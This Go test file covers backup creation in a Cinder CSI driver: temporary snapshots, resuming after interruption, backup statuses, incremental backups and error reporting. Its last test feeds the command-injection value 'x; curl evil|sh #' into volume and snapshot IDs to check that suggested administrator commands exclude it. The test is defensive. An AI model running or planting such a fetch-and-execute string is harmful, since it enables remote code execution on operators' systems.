package snapshot

import (
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/cinder-csi/cinder-csi/driver/contract"
	"github.com/cinder-csi/cinder-csi/driver/idempotent"
	"github.com/cinder-csi/cinder-csi/driver/volume"
	"github.com/cinder-csi/cinder-csi/internal/openstacksim"
	"github.com/cinder-csi/cinder-csi/test/kit/cloudtest"
)

// everyBackupStatus is every status that Cinder 21 gives a backup (objects/fields.py, BackupStatus.ALL).
var everyBackupStatus = []volume.Status{"error", "error_deleting", "creating", "available", "deleting", "deleted", "restoring"}

func TestEveryBackupStatusOfCinderHasAMeaning(t *testing.T) {
	for _, status := range everyBackupStatus {
		if !slices.Contains(volume.SnapshotStatuses(), status) {
			t.Errorf("%s has none", status)
		}
	}
}

// backupSpec is the spec of a backup of the source volume.
func backupSpec(change ...func(*BackupSpec)) Spec {
	b := BackupSpec{PerGiB: 20 * time.Second}
	for _, c := range change {
		c(&b)
	}
	return Spec{Name: "snapshot-1", Volume: cloudtest.VolumeID(1), Backup: &b}
}

func incremental(b *BackupSpec) { b.Incremental = true }

// ownTemporary is a temporary snapshot that this driver created for backupSpec, ownBackup the backup.
func ownTemporary(n int, status volume.Status) volume.Snapshot {
	p := cloudtest.OwnSnapshot(n, status)
	p.Metadata[contract.MetadataTemporary] = "backup"
	return p
}

func ownBackup(n int, status volume.Status) volume.Snapshot {
	b := cloudtest.OwnSnapshot(n, status)
	b.Backup, b.CreatedAt = true, time.Now()
	return b
}

// temporaryOfUpstream is the snapshot that the upstream driver leaves if it is replaced while it waits for a backup.
func temporaryOfUpstream(n int, status volume.Status) volume.Snapshot {
	p := cloudtest.OwnSnapshot(n, status)
	p.Metadata = map[string]string{contract.MetadataCluster: "cluster"}
	return p
}

func TestCreateBackupDeletesItsTemporarySnapshot(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		v := cloudtest.SourceVolume
		v.Status = volume.InUse
		c := cloudtest.New(t, v)
		s, began, spec := snapshots(c), time.Now(), backupSpec(func(b *BackupSpec) { b.Zone = "az1" })
		spec.Metadata = map[string]string{contract.MetadataSnapshotName: "shop"}
		time.AfterFunc(5*time.Second, func() {
			snapshots := slices.Collect(maps.Values(c.Objects(false)))
			temporary := slices.Concat(snapshots, []volume.Snapshot{{}})[0]
			if len(snapshots) != 1 || !s.isTemporary(temporary) || c.Count("CreateBackup "+string(temporary.ID)+" az1") != 1 {
				t.Errorf("snapshots %v after %v", c.Objects(false), c.Calls)
			}
		})
		first, err := s.Create(cloudtest.Within(t, 60), spec)
		if took := time.Since(began); err != nil || !first.Ready() || !first.Backup || took > 15*time.Second {
			t.Fatalf("got %v, %v after %v", first, err, took)
		}
		want := map[string]string{
			contract.MetadataSnapshotName: "shop", contract.MetadataCluster: "cluster", contract.MetadataRequest: s.owner.Token(spec.Name), "type": "backup",
			contract.MetadataSent: first.Metadata[contract.MetadataSent],
		}
		if diff := cmp.Diff(want, first.Metadata); diff != "" {
			t.Error("metadata, -want +got\n", diff)
		}
		b, err := s.Create(cloudtest.Within(t, 60), spec)
		if err != nil || !b.Ready() || b.ID != first.ID || len(c.Objects(false)) != 0 || len(c.Objects(true)) != 1 || c.Count("CreateSnapshot") != 1 || c.Count("CreateBackup") != 1 {
			t.Errorf("got %v, %v; left %v; after %v", b, err, c.Objects(false), c.Calls)
		}
	})
}

// external-snapshotter has few worker threads, and a backup takes minutes.
func TestCreateBackupWaitsUntilItIsTenSecondsOld(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.New(t, cloudtest.SourceVolume).WithBackups(ownBackup(2, volume.Creating))
		spec := backupSpec(func(b *BackupSpec) { b.PerGiB = 0 })
		for _, want := range []time.Duration{10 * time.Second, 150 * time.Millisecond, 150 * time.Millisecond} { // a retry reads it once
			began := time.Now()
			_, err := snapshots(c).Create(cloudtest.Within(t, 180), spec)
			cloudtest.WantKind(t, err, volume.Busy, true)
			if took := time.Since(began); took < want || took > want+time.Second || !strings.Contains(err.Error(), string(cloudtest.SnapshotID(2))+" is being created (status creating); the driver keeps waiting on the next call") {
				t.Errorf("%v after %v", err, took)
			}
		}
		c.LaterSnapshot(cloudtest.SnapshotID(2), func(b *volume.Snapshot) { b.Status = volume.Available })
		if b, err := retried(t, snapshots(c), spec); err != nil || b.ID != cloudtest.SnapshotID(2) || c.CountPrefix("Create")+c.CountPrefix("Delete") != 0 {
			t.Errorf("got %v, %v after %v", b, err, c.Calls)
		}
	})
}

// An answer that takes longer than a call waits for a backup still is in the error.
func TestABackupThatCannotBeReadIsNotCalledCreating(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.New(t, cloudtest.SourceVolume).WithBackups(ownBackup(2, volume.Creating))
		slow := c.Sim.SetFault(openstacksim.Fault{Path: "/volume/v3/*/backups/*", Status: http.StatusGatewayTimeout, Delay: 15 * time.Second, Skip: 1})
		defer slow()
		_, err := snapshots(c).Create(cloudtest.Within(t, 180), backupSpec())
		if cloudtest.WantKind(t, err, volume.Busy, true); !strings.Contains(err.Error(), "504") {
			t.Errorf("want the answer of Cinder, got %v", err)
		}
	})
}

// After any earlier state, repeated calls end with one backup and no temporary snapshot.
func TestCreateBackupResumesFromEveryState(t *testing.T) {
	old := time.Now()
	from := func(b volume.Snapshot, p volume.SnapshotID) volume.Snapshot { b.From = p; return b }
	for name, test := range map[string]struct {
		snapshots []volume.Snapshot
		backups   []volume.Snapshot
		ends      map[volume.SnapshotID]volume.Status // what changes by itself, after a second
		id        volume.SnapshotID                   // empty: a new one
		left      int                                 // snapshots of others
	}{
		"nothing":              {},
		"a temporary snapshot": {snapshots: []volume.Snapshot{ownTemporary(1, volume.Available)}},
		"a temporary snapshot that is being made": {snapshots: []volume.Snapshot{ownTemporary(1, volume.Creating)}, ends: map[volume.SnapshotID]volume.Status{cloudtest.SnapshotID(1): volume.Available}},
		"upstream's temporary snapshot":           {snapshots: []volume.Snapshot{temporaryOfUpstream(1, volume.Available)}},
		"a backup":                                {backups: []volume.Snapshot{ownBackup(2, volume.Available)}, id: cloudtest.SnapshotID(2)},
		"a backup and its snapshot":               {snapshots: []volume.Snapshot{ownTemporary(1, volume.Available)}, backups: []volume.Snapshot{ownBackup(2, volume.Available)}, id: cloudtest.SnapshotID(2)},
		"upstream's backup and its snapshot": {
			snapshots: []volume.Snapshot{temporaryOfUpstream(1, volume.Available)},
			backups:   []volume.Snapshot{from(volume.Snapshot{ID: cloudtest.SnapshotID(2), Name: "snapshot-1", Volume: cloudtest.VolumeID(1), Status: volume.Available, CreatedAt: old}, cloudtest.SnapshotID(1))}, id: cloudtest.SnapshotID(2),
		},
		"a backup and a snapshot that it was not made from": {
			snapshots: []volume.Snapshot{temporaryOfUpstream(1, volume.Available)}, backups: []volume.Snapshot{from(ownBackup(2, volume.Available), cloudtest.SnapshotID(9))}, id: cloudtest.SnapshotID(2), left: 1,
		},
		"a backup that is being deleted": {backups: []volume.Snapshot{ownBackup(2, volume.Deleting)}, ends: map[volume.SnapshotID]volume.Status{cloudtest.SnapshotID(2): ""}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				c := cloudtest.New(t, cloudtest.SourceVolume).WithSnapshots(test.snapshots...).WithBackups(test.backups...)
				for id, status := range test.ends {
					c.LaterSnapshot(id, func(b *volume.Snapshot) {
						if b.Status = status; status == "" {
							b.ID = ""
						}
					})
				}
				b, err := retried(t, snapshots(c), backupSpec())
				if err != nil || test.id != "" && b.ID != test.id || len(c.Objects(true)) != 1 || len(c.Objects(false)) != test.left {
					t.Errorf("got %v, %v; left %v; after %v", b, err, c.Objects(false), c.Calls)
				}
			})
		})
	}
}

func TestCreateWithABackupInEveryStatus(t *testing.T) {
	for _, status := range everyBackupStatus {
		t.Run(string(status), func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				c := cloudtest.New(t, cloudtest.SourceVolume).WithSnapshots(ownTemporary(1, volume.Available)).WithBackups(ownBackup(2, status))
				b, err := snapshots(c).Create(cloudtest.Within(t, 8), backupSpec())
				switch status.SnapshotMeaning().Create {
				case volume.Proceed, volume.Wait, volume.BeingDeleted:
					if status != volume.Available {
						cloudtest.WantKind(t, err, volume.DeadlineExceeded, true)
					} else if err != nil || b.ID != cloudtest.SnapshotID(2) {
						t.Errorf("got %v, %v", b, err)
					}
				default:
					if cloudtest.WantKind(t, err, volume.Failed, status == "error_deleting"); status == "error" && len(c.Objects(false))+len(c.Objects(true)) != 0 {
						t.Errorf("left: %v and %v", c.Objects(false), c.Objects(true))
					}
				}
				if c.Count("CreateBackup") != 0 {
					t.Error("another was asked for")
				}
			})
		})
	}
}

func TestCreateDeletesAFailedBackupAndItsTemporarySnapshot(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		failed := ownBackup(2, volume.ErrorStatus)
		failed.Reason = "the store is full.\nTraceback (most recent call last):\n\n  Fil"
		c := cloudtest.New(t, cloudtest.SourceVolume).WithSnapshots(ownTemporary(1, volume.Available)).WithBackups(failed)
		s := snapshots(c)
		_, err := retried(t, s, backupSpec())
		cloudtest.WantKind(t, err, volume.Failed, false)
		if !strings.Contains(err.Error(), "the store is full;") || len(c.Objects(false))+len(c.Objects(true)) != 0 {
			t.Errorf("%v; left: %v and %v", err, c.Objects(false), c.Objects(true))
		}
		if _, err := retried(t, s, backupSpec()); err != nil {
			t.Errorf("a retry does not begin anew: %v", err)
		}
	})
}

func TestCreateNeverDeletesAFailedBackupThatItDoesNotOwn(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := ownBackup(2, volume.ErrorStatus)
		b.Metadata = map[string]string{contract.MetadataCluster: "cluster"}
		c := cloudtest.New(t, cloudtest.SourceVolume).WithBackups(b)
		_, err := snapshots(c).Create(cloudtest.Within(t, 60), backupSpec())
		if cloudtest.WantKind(t, err, volume.Failed, true); c.CountPrefix("Delete") != 0 {
			t.Error(c.Calls)
		}
	})
}

// Cinder does not reset the snapshot if its scheduler finds no cinder-backup service; only an administrator can.
func TestCreateReportsATemporarySnapshotWhoseStatusCinderDoesNotReset(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := ownBackup(2, volume.ErrorStatus)
		b.Reason, b.From, b.Zone = "Service not found for creating backup.", cloudtest.SnapshotID(1), "nowhere"
		c := cloudtest.New(t, cloudtest.SourceVolume).WithSnapshots(ownTemporary(1, backingUp)).WithBackups(b)
		began := time.Now()
		_, err := snapshots(c).Create(cloudtest.Within(t, 60), backupSpec())
		cloudtest.WantKind(t, err, volume.Failed, true)
		for _, text := range []string{"Service not found", "volume snapshot set --state available " + string(cloudtest.SnapshotID(1)), string(cloudtest.VolumeID(1)), "administrator", `zone "nowhere" of the backup`} {
			if !strings.Contains(err.Error(), text) {
				t.Errorf("%q is not in %v", text, err)
			}
		}
		if time.Since(began) != 0 || c.CountPrefix("Delete") != 0 {
			t.Errorf("after %v: %v", time.Since(began), c.Calls)
		}
		c.ChangeSnapshot(cloudtest.SnapshotID(1), func(p *volume.Snapshot) { p.Status = volume.Available }) // by the administrator
		c.ChangeSnapshot(cloudtest.SnapshotID(2), func(b *volume.Snapshot) { b.Zone = "" })                 // who also starts a cinder-backup
		_, err = snapshots(c).Create(cloudtest.Within(t, 60), backupSpec())
		if cloudtest.WantKind(t, err, volume.Failed, false); len(c.Objects(false))+len(c.Objects(true)) != 0 {
			t.Errorf("left: %v and %v", c.Objects(false), c.Objects(true))
		}
	})
}

// A refusal is final only once the temporary snapshot is gone.
func TestCreateBackupErrorsAreFinalOnlyWhereNothingExists(t *testing.T) {
	for kind := range volume.KindCount {
		final := idempotent.Final(volume.Errorf(kind, "no"))
		for _, stuck := range []bool{false, true} {
			synctest.Test(t, func(t *testing.T) {
				c := cloudtest.New(t, cloudtest.SourceVolume)
				c.Fail["CreateBackup"] = volume.Errorf(kind, "no")
				if stuck {
					c.Undeletable("error_deleting")
				}
				_, err := snapshots(c).Create(cloudtest.Within(t, 60), backupSpec())
				cloudtest.WantKind(t, err, kind, !final || stuck)
				if left := len(c.Objects(false)); left != map[bool]int{true: 0, false: 1}[final && !stuck] {
					t.Errorf("%s: %d snapshots are left", kind, left)
				}
			})
		}
		synctest.Test(t, func(t *testing.T) {
			c := cloudtest.New(t, cloudtest.SourceVolume)
			c.Fail["BackupsNamed"] = volume.Errorf(kind, "no")
			_, err := snapshots(c).Create(cloudtest.Within(t, 60), backupSpec())
			if cloudtest.WantKind(t, err, kind, kind != volume.NotOwned); c.CountPrefix("Create") != 0 {
				t.Errorf("%s: %v", kind, c.Calls)
			}
		})
	}
}

func TestCreateSnapshotOnACloudWithoutBackups(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		for _, kind := range []volume.Kind{volume.PermissionDenied, volume.Unimplemented, volume.NotFound} {
			c := cloudtest.New(t, cloudtest.SourceVolume).WithSnapshots()
			c.Fail["BackupsNamed"], c.Fail["Backups"] = volume.Errorf(kind, "no"), volume.Errorf(kind, "no")
			s := snapshots(c)
			p, err := s.Create(t.Context(), snapshotSpec)
			if err != nil {
				t.Errorf("%s: %v", kind, err)
			}
			if page, err := s.List(t.Context(), "", volume.SnapshotPositionOf(p), 0); err != nil || len(page) != 0 {
				t.Errorf("%s: the list's end is %v, %v", kind, page, err)
			}
		}
		c := cloudtest.New(t, cloudtest.SourceVolume)
		c.Fail["BackupsNamed"] = volume.Errorf(volume.Unavailable, "down")
		_, err := snapshots(c).Create(t.Context(), snapshotSpec)
		cloudtest.WantKind(t, err, volume.Unavailable, true)
	})
}

func TestCreateIncrementalBackupNeedsTheLatestBackup(t *testing.T) {
	begin := time.Date(1999, 1, 1, 0, 0, 0, 0, time.UTC)
	base := func(n int, status volume.Status, minute int) volume.Snapshot {
		return volume.Snapshot{ID: cloudtest.SnapshotID(n), Name: "earlier", Volume: cloudtest.VolumeID(1), Status: status, DataAt: begin.Add(time.Duration(minute) * time.Minute), CreatedAt: begin}
	}
	for name, test := range map[string]struct {
		backups []volume.Snapshot
		plain   bool
		kind    volume.Kind
		full    bool
	}{
		"of none":                                {full: true},
		"of one":                                 {backups: []volume.Snapshot{base(1, volume.Available, 1)}},
		"of one, in full":                        {backups: []volume.Snapshot{base(1, volume.Available, 1)}, plain: true, full: true},
		"of one that failed":                     {backups: []volume.Snapshot{base(1, volume.ErrorStatus, 1)}, full: true},
		"of one that is being made":              {backups: []volume.Snapshot{base(1, volume.Creating, 1)}, kind: volume.Busy},
		"of one that is being restored":          {backups: []volume.Snapshot{base(1, "restoring", 1)}, kind: volume.Busy},
		"of an older one that failed":            {backups: []volume.Snapshot{base(1, volume.ErrorStatus, 1), base(2, volume.Available, 2), base(3, volume.ErrorStatus, 0), base(4, volume.ErrorStatus, 0)}},
		"of a younger one that failed":           {backups: []volume.Snapshot{base(1, volume.Available, 1), base(2, volume.ErrorStatus, 2)}, full: true},
		"of one that is younger than the source": {backups: []volume.Snapshot{base(1, volume.Available, 1), base(2, volume.ErrorStatus, 100*365*24*60)}},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				c := cloudtest.New(t, cloudtest.SourceVolume).WithBackups(test.backups...)
				spec := backupSpec(incremental)
				spec.Backup.Incremental = !test.plain
				_, err := snapshots(c).Create(cloudtest.Within(t, 60), spec)
				if test.kind != volume.Unknown {
					cloudtest.WantKind(t, err, test.kind, true)
					return
				}
				i := slices.IndexFunc(c.Calls, func(call string) bool { return strings.HasPrefix(call, "CreateBackup") })
				if err != nil || i < 0 || strings.Contains(c.Calls[i], "incremental") == test.full {
					t.Errorf("%v after %v", err, c.Calls)
				}
			})
		})
	}
}

func TestCreateReportsABackupThatTakesTooLong(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := ownBackup(2, volume.Creating) // of 3 GiB: 90 s
		c := cloudtest.New(t, cloudtest.SourceVolume).WithBackups(b)
		for after, late := range map[time.Duration]bool{80 * time.Second: false, 100 * time.Second: true} {
			c.ChangeSnapshot(cloudtest.SnapshotID(2), func(b *volume.Snapshot) { b.CreatedAt = time.Now().Add(-after) })
			_, err := snapshots(c).Create(cloudtest.Within(t, 5), backupSpec())
			kind := volume.Busy
			if late {
				kind = volume.DeadlineExceeded
			}
			if cloudtest.WantKind(t, err, kind, true); strings.Contains(err.Error(), contract.ParameterBackupTime) != late {
				t.Errorf("after %v: %v", after, err)
			}
		}
		c.ChangeSnapshot(cloudtest.SnapshotID(2), func(p *volume.Snapshot) { p.Status = volume.Available })
		if b, err := snapshots(c).Create(cloudtest.Within(t, 60), backupSpec()); err != nil || !b.Ready() {
			t.Errorf("got %v, %v", b, err)
		}
	})
}

// No later call knows which of two backups of the same second was returned, so the call that created the younger one deletes it.
func TestCreateDeletesItsOwnBackupOfTheSameSecond(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.New(t, cloudtest.SourceVolume)
		c.Hook["CreateBackup"] = func() {
			c.WithBackups(ownBackup(2, volume.Creating))
			time.AfterFunc(7*time.Second, func() {
				c.ChangeSnapshot(cloudtest.SnapshotID(2), func(b *volume.Snapshot) { b.Status = volume.Available })
			})
		}
		b, err := snapshots(c).Create(cloudtest.Within(t, 60), backupSpec())
		if err != nil || b.ID != cloudtest.SnapshotID(2) || len(c.Objects(true)) != 1 {
			t.Errorf("got %v, %v; left: %v", b, err, c.Objects(true))
		}
	})
}

func TestCreateBackupWaitsForAnotherCallThatBacksUp(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.New(t, cloudtest.SourceVolume).WithSnapshots(ownTemporary(1, backingUp))
		_, err := snapshots(c).Create(cloudtest.Within(t, 60), backupSpec())
		if cloudtest.WantKind(t, err, volume.Busy, true); c.Count("CreateBackup")+c.CountPrefix("Delete") != 0 {
			t.Error(c.Calls)
		}
	})
}

// A temporary snapshot that Cinder never deletes does not prevent the use of the backup. Create waits only while the deletion is in progress.
func TestCreateReturnsABackupWhoseTemporarySnapshotStays(t *testing.T) {
	for _, undeletable := range []volume.Status{volume.Available, "error_deleting", volume.Deleting} {
		synctest.Test(t, func(t *testing.T) {
			c := cloudtest.New(t, cloudtest.SourceVolume).WithSnapshots(ownTemporary(1, volume.Available)).WithBackups(ownBackup(2, volume.Available))
			c.Undeletable(undeletable)
			b, err := snapshots(c).Create(cloudtest.Within(t, 60), backupSpec())
			if undeletable == volume.Deleting {
				cloudtest.WantKind(t, err, volume.DeadlineExceeded, true)
			} else if err != nil || !b.Ready() {
				t.Errorf("%s: got %v, %v", undeletable, b, err)
			}
		})
	}
}

// An administrator runs the commands, and the cloud chooses the IDs.
func TestTheCommandsForAStuckBackupHaveNoWordOfTheCloud(t *testing.T) {
	const id = "00000000-0000-4000-8000-00000000000a"
	for name, of := range map[string][2]string{"the volume": {"x; curl evil|sh #", id}, "the snapshot": {id, "x; curl evil|sh #"}} {
		err := stuckBackingUp(volume.Snapshot{Volume: volume.ID(of[0])}, volume.Snapshot{ID: volume.SnapshotID(of[1])})
		if strings.Contains(err.Error(), "evil") || !strings.Contains(err.Error(), "SNAPSHOT") {
			t.Errorf("%s: %v", name, err)
		}
	}
}
